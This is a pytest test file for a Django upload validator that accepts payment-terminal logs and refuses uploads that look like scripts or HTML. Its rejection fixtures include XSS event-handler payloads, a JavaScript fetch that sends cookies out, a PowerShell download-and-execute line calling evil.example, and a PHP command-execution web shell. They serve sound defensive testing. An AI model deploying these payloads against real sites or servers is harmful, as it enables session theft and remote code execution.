"""Issue 18 §4.2: a log is accepted because it looks like a log, and a page or a script is refused with the
reason, however few of the old denylist's markers it holds."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from tickets.logshape import LogShape
from tickets.uploads import process_upload

from .conftest import pieces

LOGS = {
    "terminal trace": """\
2026-05-01 10:00:01.123 [INFO ] POS  boot v3.2.1 TID=12345678 MID=102310058120001
2026-05-01 10:00:02.456 [INFO ] COMM connect 10.1.2.3:5000 timeout=30s
2026-05-01 10:00:03.001 [DEBUG] ISO8583 >> MTI=0800 F11=000123 F41=12345678 F42=102310058120001
2026-05-01 10:00:03.870 [DEBUG] ISO8583 << MTI=0810 F39=A0
2026-05-01 10:00:03.871 [ERROR] SIGN ON FAIL resp code: A0 (MAC校验错)
2026-05-01 10:00:05.000 [WARN ] retry 1/3 => host
""",
    "hex dump": """\
SEND 0200 len=86
0000: 60 00 03 00 00 02 00 70 24 06 C0 20 C0 98 11 16  `......p$.. ... .
0010: 62 12 34 ** ** ** ** 56 78 00 00 00 00 00 00 10  b.4....Vx.......
0020: 00 00 00 01 23 12 34 56 78 10 23 10 05 81 20 00  ....#.4Vx.#... .
RECV 0210 len=40 <STX>...<ETX> LRC ok
""",
    "field dump": """\
[交易] 消费 金额=12.50 元
  [002] 621234******5678
  [003] 000000
  [004] 000000001250
  [039] 05 拒绝，请联系发卡行
  field 39: 05
应答码：05 交易失败
""",
    "android app": """\
05-01 10:00:01.123  1234  1250 I PayApp  : onTransactionStart(amount=1250)
05-01 10:00:01.200  1234  1250 D PayApp  : request {"mti":"0200","amount":"1250","tid":"12345678"}
05-01 10:00:03.900  1234  1250 E PayApp  : java.net.SocketTimeoutException: timeout
05-01 10:00:03.901  1234  1250 E PayApp  :     at com.pay.net.Client.send(Client.java:88)
05-01 10:00:03.902  1234  1250 E PayApp  :     at com.pay.core.Sale.run(Sale.java:41)
05-01 10:00:04.000  1234  1250 I PayApp  : result=TIMEOUT rc=98 -> reversal queued
""",
    "a traceback quotes a little code": "\n".join(
        [f"2026-05-01 10:00:{n:02d} poll status=OK queue=0" for n in range(30)]
        + [
            "Traceback (most recent call last):",
            '  File "/app/poll.py", line 12, in <module>',
            "    main()",
            "ValueError: bad config",
        ]
    ),
    "comparisons": "10:00 a < b & c > d ERROR\nlen < i => retry\n",
    "prose notes": "签到失败，屏幕显示请重新签到\n重启后还是一样\nThe terminal says: please sign in again.\n",
    "percent-encoded url": "GET /pay?note=%E4%B8%AD%E6%96%87&amt=100%25 200\nPOST /sign status=ok\n",
}

SCRIPTS = {
    "html with handlers": '<div class="x">\n<p>Hello</p>\n<details open ontoggle=alert(1)>\n<b>x</b>\n</div>\n',
    "svg onload": "<svg/onload=alert(document.domain)>\n<svg><animate onbegin=alert(1) attributeName=x dur=1s>\n",
    "javascript": "var x = 1;\nconst y = () => {\n  fetch('/steal?c=' + document.cookie);\n};\ny();\n",
    "vbscript": 'Dim shell\nSet shell = CreateObject("WScript.Shell")\nSub Run()\n  shell.Run "calc"\nEnd Sub\n',
    "powershell": "$u = 'http://evil.example/a.ps1'\nInvoke-Expression (New-Object Net.WebClient).DownloadString($u)\n"
    "Start-Process calc\n",
    "php": '<?php\n$cmd = $_GET["c"];\nsystem($cmd);\necho "done";\n?>\n',
    "batch": "@echo off\nset TARGET=%TEMP%\\a.exe\ncall :download\ngoto :eof\n:download\n",
    "python": "import os\nimport subprocess\ndef run(cmd):\n    os.system(cmd)\nif __name__ == '__main__':\n"
    "    run('calc')\n",
    "payload list": "\n".join(
        [
            "<details open ontoggle=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<x onclick=alert(1)>click",
            "<body onpageshow=alert(1)>",
            "<select autofocus onfocus=alert(1)>",
        ]
    ),
}


def _verdict(text: str, size: int = 10**9):
    shape = LogShape()
    for piece in pieces(text, [size] * (len(text) // size + 1)):
        shape.feed(piece)
    return shape.finish()


@pytest.mark.parametrize("text", LOGS.values(), ids=LOGS.keys())
@pytest.mark.parametrize("size", [7, 10**9])
def test_a_terminal_log_looks_like_a_log(text, size):
    assert _verdict(text, size) is None


@pytest.mark.parametrize("text", SCRIPTS.values(), ids=SCRIPTS.keys())
@pytest.mark.parametrize("size", [7, 10**9])
def test_a_page_or_a_script_does_not(text, size):
    assert _verdict(text, size) is not None


def test_the_verdict_names_what_the_lines_are():
    markup, script = _verdict(SCRIPTS["payload list"]), _verdict(SCRIPTS["vbscript"])

    assert (markup.kind, markup.lines, markup.of) == ("markup", 7, 7)
    assert script.kind == "script"


def test_a_long_line_is_judged_by_its_start_in_bounded_memory():
    shape = LogShape()
    for _ in range(1000):
        shape.feed("x" * 10_000)
    shape.feed("\n")
    assert sum(len(part) for part in shape._line) == 0
    assert shape.finish() is None


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("language", "words"), [("en", ["program code", "6 of its 6 lines"]), ("zh-hans", ["程序代码", "6 行中有 6 行"])]
)
def test_the_merchant_is_told_why_the_file_was_refused(language, words):
    # A script none of the old denylist's markers catch.
    upload = SimpleUploadedFile("pos.log", SCRIPTS["python"].encode(), content_type="text/plain")
    with translation.override(language), pytest.raises(ValidationError) as caught:
        process_upload(upload)

    message = " ".join(caught.value.messages)
    assert "pos.log" in message
    for word in words:
        assert word in message


@pytest.mark.django_db
def test_a_realistic_log_is_accepted_by_the_upload():
    upload = SimpleUploadedFile("pos.log", LOGS["android app"].encode(), content_type="text/plain")
    assert process_upload(upload).masked_count == 0
